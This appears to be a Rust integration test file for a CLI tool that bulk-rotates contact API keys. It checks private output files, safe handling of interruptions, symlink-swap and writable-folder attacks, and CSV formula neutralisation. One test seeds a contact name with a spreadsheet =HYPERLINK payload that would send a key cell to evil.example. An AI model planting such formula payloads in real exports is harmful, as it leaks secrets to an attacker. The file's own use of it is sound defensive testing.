//! Bulk rotation from the CLI: keys to a private file, and an interruption midway leaves
//! every contact either rotated (in the out file and the journal) or untouched.

mod binary;

use std::collections::HashMap;
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

/// civikey with its data in `data`, which is `home/data`.
fn civikey(data: &Path, home: &Path) -> Command {
    assert_eq!(data, home.join("data"));
    binary::civikey(home)
}

fn setup() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let out = civikey(&data, dir.path())
        .args(["list", "--limit", "1"])
        .output()
        .unwrap();
    assert!(out.status.success());
    (dir, data)
}

fn keys(store: &Path) -> HashMap<i64, Option<String>> {
    let conn = rusqlite::Connection::open(store).unwrap();
    let mut stmt = conn
        .prepare("SELECT id, api_key FROM civicrm_contact")
        .unwrap();
    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect()
}

/// The rows of an out file (its first line is a `#` note, then the header).
fn out_rows(path: &Path) -> Vec<(i64, String, String)> {
    let mut reader = csv::ReaderBuilder::new()
        .comment(Some(b'#'))
        .from_path(path)
        .unwrap();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].parse().unwrap(), r[1].to_string(), r[3].to_string())
        })
        .collect()
}

#[test]
fn bulk_rotation_writes_keys_to_a_private_file_only() {
    let (dir, data) = setup();
    let ids = dir.path().join("ids.txt");
    fs::write(&ids, "# leaked on Tuesday\n101\n102\n103\n\n104\n105\n").unwrap();
    let before = keys(&data.join("contacts.sqlite"));
    let out_path = dir.path().join("new-keys.csv");
    let out = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            ids.to_str().unwrap(),
            "--out",
            out_path.to_str().unwrap(),
            "--yes",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.stdout.is_empty(),
        "keys must not go to stdout in bulk mode"
    );
    assert_eq!(
        fs::metadata(&out_path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let rows = out_rows(&out_path);
    assert_eq!(
        rows.iter().map(|r| r.0).collect::<Vec<_>>(),
        vec![101, 102, 103, 104, 105]
    );
    let after = keys(&data.join("contacts.sqlite"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for (id, _, key) in &rows {
        assert_eq!(after[id].as_deref(), Some(key.as_str()));
        assert_ne!(before[id].as_deref(), Some(key.as_str()));
        assert!(!stderr.contains(key.as_str()));
    }
    // An existing out file is never overwritten.
    let again = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            ids.to_str().unwrap(),
            "--out",
            out_path.to_str().unwrap(),
            "--yes",
        ])
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(5));
    assert_eq!(keys(&data.join("contacts.sqlite")), after);
}

#[test]
fn interrupted_bulk_rotation_leaves_each_contact_rotated_or_untouched() {
    let (dir, data) = setup();
    let store = data.join("contacts.sqlite");
    let all: Vec<i64> = keys(&store).keys().copied().collect();
    let ids = dir.path().join("ids.txt");
    fs::write(
        &ids,
        all.iter()
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join("\n"),
    )
    .unwrap();
    let before = keys(&store);
    let out_path = dir.path().join("out.csv");

    // Hold the store's write lock so the run blocks inside its first contact...
    let locker = rusqlite::Connection::open(&store).unwrap();
    locker.execute_batch("BEGIN IMMEDIATE").unwrap();
    let child = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            ids.to_str().unwrap(),
            "--out",
            out_path.to_str().unwrap(),
            "--yes",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !out_path.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the run never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    // ...then interrupt it (the SSH link drops), and let it finish the contact in flight.
    // SAFETY: signalling our own child process.
    unsafe { libc::kill(child.id() as i32, libc::SIGHUP) };
    std::thread::sleep(Duration::from_millis(200));
    locker.execute_batch("ROLLBACK").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("interrupted"));

    let after = keys(&store);
    let rows = out_rows(&out_path);
    assert!(
        !rows.is_empty() && rows.len() < all.len(),
        "expected a partial run, got {} rows",
        rows.len()
    );
    let in_file: HashMap<i64, String> = rows.into_iter().map(|(id, _, k)| (id, k)).collect();
    let journal = rusqlite::Connection::open(data.join("audit.sqlite")).unwrap();
    for id in &all {
        let journaled: i64 = journal
            .query_row(
                "SELECT count(*) FROM audit WHERE contact_id = ? AND outcome = 'done'",
                [id],
                |r| r.get(0),
            )
            .unwrap();
        match in_file.get(id) {
            Some(key) => {
                assert_eq!(
                    after[id].as_deref(),
                    Some(key.as_str()),
                    "contact {id}: file and store disagree"
                );
                assert_eq!(journaled, 1, "contact {id} rotated but not journaled");
            }
            None => {
                assert_eq!(
                    after[id], before[id],
                    "contact {id} changed but is not in the out file"
                );
                assert_eq!(
                    journaled, 0,
                    "contact {id} journaled but not in the out file"
                );
            }
        }
    }
}

fn bulk(data: &Path, home: &Path, ids: &Path, out: &Path) -> Command {
    let mut cmd = civikey(data, home);
    cmd.args([
        "rotate",
        "--ids-from",
        ids.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
        "--yes",
    ]);
    cmd
}

fn ids_file(dir: &Path, ids: &[i64]) -> PathBuf {
    let path = dir.join("ids.txt");
    fs::write(
        &path,
        ids.iter().map(|i| format!("{i}\n")).collect::<String>(),
    )
    .unwrap();
    path
}

/// Finding 1 of the security review: another user swapped the freshly made out file for a
/// symlink, and civikey (reopening it by path) wrote the keys where the symlink pointed.
/// The debug-build hook does the swap at exactly that moment.
#[test]
fn swapping_the_out_file_for_a_symlink_redirects_nothing() {
    let (dir, data) = setup();
    let ids = ids_file(dir.path(), &[101, 102, 103]);
    let victim = dir.path().join("victim.sh");
    fs::write(&victim, "#!/bin/sh\necho fine\n").unwrap();
    let out_path = dir.path().join("keys.csv");
    let out = bulk(&data, dir.path(), &ids, &out_path)
        .env("CIVIKEY_DEBUG_SWAP_OUT_FILE", &victim)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        fs::symlink_metadata(&out_path)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the hook did not swap the file"
    );
    assert_eq!(
        fs::read_to_string(&victim).unwrap(),
        "#!/bin/sh\necho fine\n",
        "keys were written through the planted symlink"
    );
    // Every key went to the file civikey created (now moved aside), and only there.
    let moved = dir.path().join("keys.csv.moved");
    let rows = out_rows(&moved);
    let after = keys(&data.join("contacts.sqlite"));
    assert_eq!(
        rows.iter().map(|r| r.0).collect::<Vec<_>>(),
        vec![101, 102, 103]
    );
    for (id, _, key) in &rows {
        assert_eq!(after[id].as_deref(), Some(key.as_str()));
    }
    assert_eq!(
        fs::metadata(&moved).unwrap().permissions().mode() & 0o777,
        0o600
    );
}

#[test]
fn out_folders_other_users_can_write_are_refused() {
    use std::os::unix::fs::MetadataExt;
    let (dir, data) = setup();
    let ids = ids_file(dir.path(), &[101]);
    let before = keys(&data.join("contacts.sqlite"));
    let open = dir.path().join("open");
    fs::create_dir(&open).unwrap();
    for mode in [0o777, 0o770, 0o722] {
        fs::set_permissions(&open, fs::Permissions::from_mode(mode)).unwrap();
        let out_path = open.join("keys.csv");
        let out = bulk(&data, dir.path(), &ids, &out_path).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(5), "{mode:o}: {stderr}");
        assert!(stderr.contains("other users"), "{mode:o}: {stderr}");
        assert!(!out_path.exists(), "{mode:o}: the out file was created");
        assert_eq!(keys(&data.join("contacts.sqlite")), before, "{mode:o}");
    }
    // A private folder inside one that others can write: they could move it and put
    // their own in its place, so it is refused too.
    let inner = open.join("inner");
    fs::create_dir(&inner).unwrap();
    fs::set_permissions(&inner, fs::Permissions::from_mode(0o700)).unwrap();
    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
    let out = bulk(&data, dir.path(), &ids, &inner.join("keys.csv"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(5), "{stderr}");
    assert!(
        stderr.contains("open: ") || stderr.contains("/open "),
        "{stderr}"
    );
    assert_eq!(keys(&data.join("contacts.sqlite")), before);
    // Sticky and owned by this user (like /tmp, which root owns): accepted.
    fs::set_permissions(&open, fs::Permissions::from_mode(0o1777)).unwrap();
    let out = bulk(&data, dir.path(), &ids, &open.join("keys.csv"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A private folder that belongs to another user: refused (that user could swap files).
    if fs::metadata(dir.path()).unwrap().uid() == 0 {
        let theirs = dir.path().join("theirs");
        fs::create_dir(&theirs).unwrap();
        std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).unwrap();
        let before = keys(&data.join("contacts.sqlite"));
        let out = bulk(&data, dir.path(), &ids, &theirs.join("keys.csv"))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(5), "{stderr}");
        assert!(stderr.contains("another user"), "{stderr}");
        assert_eq!(keys(&data.join("contacts.sqlite")), before);
        // A symlink of another user on the way (planted in a sticky folder like /tmp),
        // even to a folder of this user: refused.
        let mine = dir.path().join("mine");
        fs::create_dir(&mine).unwrap();
        let link = open.join("keys-dir");
        std::os::unix::fs::symlink(&mine, &link).unwrap();
        std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).unwrap();
        let out = bulk(&data, dir.path(), &ids, &link.join("keys.csv"))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(5), "{stderr}");
        assert!(stderr.contains("symlink of another user"), "{stderr}");
        assert!(!mine.join("keys.csv").exists());
        assert_eq!(keys(&data.join("contacts.sqlite")), before);
    } else {
        let _ = writeln!(
            std::io::stderr(),
            "SKIP part of out_folders_other_users_can_write_are_refused: a folder of another user needs root to make"
        );
    }
}

/// Finding 6: a name that a spreadsheet would run as a formula is written as text, the
/// file says so on its first line, and names that need CSV quoting are quoted.
#[test]
fn formula_names_are_neutralised_and_quoted_in_the_out_file() {
    let (dir, data) = setup();
    let store = data.join("contacts.sqlite");
    let names = [
        (101, r#"=HYPERLINK("https://evil.example/?k="&C2,"x")"#),
        (102, "+1 555"),
        (103, "-2+3"),
        (104, "@SUM(A1)"),
        (105, "Smith, \"Jo\""),
    ];
    {
        let conn = rusqlite::Connection::open(&store).unwrap();
        for (id, name) in names {
            conn.execute(
                "UPDATE civicrm_contact SET display_name = ?1 WHERE id = ?2",
                rusqlite::params![name, id],
            )
            .unwrap();
        }
    }
    let ids = ids_file(dir.path(), &[101, 102, 103, 104, 105]);
    let out_path = dir.path().join("keys.csv");
    let out = bulk(&data, dir.path(), &ids, &out_path).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = fs::read_to_string(&out_path).unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("formulas"),
        "the note on stderr"
    );
    let rows = out_rows(&out_path);
    for ((id, name), row) in names.iter().zip(&rows) {
        assert_eq!(row.0, *id);
        let expected = if name.starts_with(['=', '+', '-', '@']) {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert_eq!(row.1, expected);
    }
    // No line of data starts a cell with a formula character.
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }
}

/// Finding 10: a FIFO or a device as `--ids-from` is refused at once (it used to hang, or
/// grow to a gigabyte from /dev/zero), and so is an over-large file or line.
#[test]
fn ids_files_that_are_not_small_regular_files_are_refused_at_once() {
    let (dir, data) = setup();
    let before = keys(&data.join("contacts.sqlite"));
    let fifo = dir.path().join("ids.fifo");
    let c_path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: c_path is a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
    let big = dir.path().join("big.txt");
    fs::File::create(&big).unwrap().set_len(17 << 20).unwrap();
    let long_line = dir.path().join("long.txt");
    fs::write(&long_line, format!("101\n{}\n", "1".repeat(5000))).unwrap();
    for (ids, why) in [
        (fifo.clone(), "not a regular file"),
        (PathBuf::from("/dev/zero"), "not a regular file"),
        (big.clone(), "larger than 16 MiB"),
        (long_line.clone(), "line 2 is longer"),
    ] {
        let out_path = dir.path().join("keys.csv");
        let mut child = bulk(&data, dir.path(), &ids, &out_path)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                panic!("{}: civikey hung", ids.display());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{}: {stderr}", ids.display());
        assert!(stderr.contains(why), "{}: {stderr}", ids.display());
        assert!(!out_path.exists());
        assert_eq!(keys(&data.join("contacts.sqlite")), before);
    }
}

/// Finding 10: SIGKILL after a contact's rotation was journaled done but before its line
/// reached the out file. That contact holds a key nobody has; `civikey audit` says so.
#[test]
fn a_key_killed_before_its_out_file_line_is_flagged_in_the_audit() {
    use std::os::unix::process::ExitStatusExt;
    let (dir, data) = setup();
    let ids = ids_file(dir.path(), &[101, 102, 103]);
    let out_path = dir.path().join("keys.csv");
    let out = bulk(&data, dir.path(), &ids, &out_path)
        .env("CIVIKEY_DEBUG_KILL_BEFORE_OUT_LINE", "2")
        .output()
        .unwrap();
    assert_eq!(out.status.signal(), Some(libc::SIGKILL), "{out:?}");
    assert_eq!(
        out_rows(&out_path).iter().map(|r| r.0).collect::<Vec<_>>(),
        vec![101]
    );
    let audit = civikey(&data, dir.path())
        .args(["audit", "--json"])
        .output()
        .unwrap();
    assert!(audit.status.success());
    let entries: serde_json::Value = serde_json::from_slice(&audit.stdout).unwrap();
    let flag = |id: i64| {
        entries
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["contact_id"] == id && e["action"] == "assign")
            .map(|e| (e["outcome"].clone(), e["key_not_delivered"].clone()))
    };
    assert_eq!(
        flag(101),
        Some((serde_json::json!("done"), serde_json::json!(false)))
    );
    assert_eq!(
        flag(102),
        Some((serde_json::json!("done"), serde_json::json!(true)))
    );
    assert_eq!(flag(103), None, "103 was never attempted");
    let plain = civikey(&data, dir.path()).arg("audit").output().unwrap();
    let text = String::from_utf8_lossy(&plain.stdout);
    assert_eq!(text.matches("KEY-NOT-DELIVERED").count(), 1, "{text}");
    // The killed run's lease was cleared by the next civikey.
    let leases: Vec<_> = fs::read_dir(data.join("leases")).unwrap().collect();
    assert!(leases.is_empty(), "{leases:?}");
}

/// Finding 3 for bulk runs: when a line cannot be written to the out file, the contact's
/// old key is put back, journaled as undo, and the run stops there.
#[test]
fn a_failed_out_file_write_puts_the_old_key_back() {
    let (dir, data) = setup();
    let store = data.join("contacts.sqlite");
    let before = keys(&store);
    let ids = ids_file(dir.path(), &[101, 102]);
    let out_path = dir.path().join("keys.csv");
    let mut cmd = bulk(&data, dir.path(), &ids, &out_path);
    // The debug-build hook makes each line's write fail with ENOSPC (a full disk).
    cmd.env("CIVIKEY_DEBUG_FAIL_OUT_LINE", "1");
    let out = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert_eq!(
        stderr.matches("the old key was put back").count(),
        1,
        "{stderr}"
    );
    assert!(stderr.contains("1 not attempted"), "{stderr}");
    assert_eq!(keys(&store), before, "a key nobody holds was left in place");
    assert!(out_rows(&out_path).is_empty());
    let journal = rusqlite::Connection::open(data.join("audit.sqlite")).unwrap();
    let actions = |id: i64| -> Vec<(String, String)> {
        journal
            .prepare("SELECT action, outcome FROM audit WHERE contact_id = ? ORDER BY id")
            .unwrap()
            .query_map([id], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(
        actions(101),
        vec![
            ("assign".to_string(), "done".to_string()),
            ("undo".to_string(), "done".to_string())
        ]
    );
    assert!(
        actions(102).is_empty(),
        "the run stops at the first line it cannot write"
    );
}

/// The out file opens with the header CSV readers parse, the email the hand-over needs; the
/// ids can come on stdin; a folder that does not exist is an error, never made.
#[test]
fn the_out_file_is_plain_csv_ids_come_on_stdin_and_no_folder_is_made() {
    use std::io::Write as _;
    let (dir, data) = setup();
    let out_path = dir.path().join("keys.csv");
    let mut child = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            "-",
            "--out",
            out_path.to_str().unwrap(),
            "--yes",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"101\n102 # two\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv::Reader::from_path(&out_path).unwrap();
    assert_eq!(
        reader.headers().unwrap(),
        vec!["contact_id", "display_name", "email", "api_key"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0][0], &rows[0][2]), ("101", "ada101@example.org"));
    let after = keys(&data.join("contacts.sqlite"));
    assert_eq!(after[&101].as_deref(), Some(&rows[0][3]));
    // A folder that is not there: refused, not made, nothing rotated.
    let ids = ids_file(dir.path(), &[103]);
    let missing = dir.path().join("no-such-folder");
    let out = bulk(&data, dir.path(), &ids, &missing.join("keys.csv"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(5), "{stderr}");
    assert!(stderr.contains("does not exist"), "{stderr}");
    assert!(!missing.exists(), "the folder was made");
    assert_eq!(keys(&data.join("contacts.sqlite")), after);
}

/// `rotate --ids-from FILE --json`: instead of an out file, one JSON line per rotated contact
/// on stdout (a pipe to a vault): its id, its name and email as the store holds them, the
/// key the store then holds and its fingerprint. Nothing else on stdout; a stdout that
/// cannot be written puts the old key back.
#[test]
fn json_lines_hand_each_key_to_a_pipe() {
    let (dir, data) = setup();
    let store = data.join("contacts.sqlite");
    let ids = ids_file(dir.path(), &[101, 121]);
    let out = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            ids.to_str().unwrap(),
            "--json",
            "--yes",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("2 rotated (keys to stdout"), "{stderr}");
    let after = keys(&store);
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<serde_json::Value> = stdout
        .lines()
        .map(|l| {
            assert!(l.is_ascii(), "{l}");
            serde_json::from_str(l).unwrap()
        })
        .collect();
    assert_eq!(lines.len(), 2, "{stdout}");
    for line in &lines {
        let id = line["contact_id"].as_i64().unwrap();
        assert_eq!(line["key"].as_str(), after[&id].as_deref(), "{line}");
        assert_eq!(line["fingerprint"].as_str().unwrap().len(), 8, "{line}");
        // The hand-over, as rotate --json gives it (no site: no endpoint).
        assert!(line["handover"]["api_endpoint"].is_null(), "{line}");
        assert!(line["handover"]["needs_site_key"].is_boolean(), "{line}");
    }
    assert_eq!(lines[1]["display_name"], "Mei Chen 陈", "the store's text");
    assert_eq!(lines[0]["email"], "ada101@example.org");

    // --ids-from without a destination is a usage error; nothing rotates.
    let out = civikey(&data, dir.path())
        .args(["rotate", "--ids-from", ids.to_str().unwrap(), "--yes"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--out FILE, or --json"));
    assert_eq!(keys(&store), after);

    // A closed stdout: the key reached nobody, so the old one goes back.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = civikey(&data, dir.path())
        .args([
            "rotate",
            "--ids-from",
            ids.to_str().unwrap(),
            "--json",
            "--yes",
        ])
        .stdout(writer)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("the old key was put back"), "{stderr}");
    assert_eq!(keys(&store), after, "a key nobody holds was left in place");
}
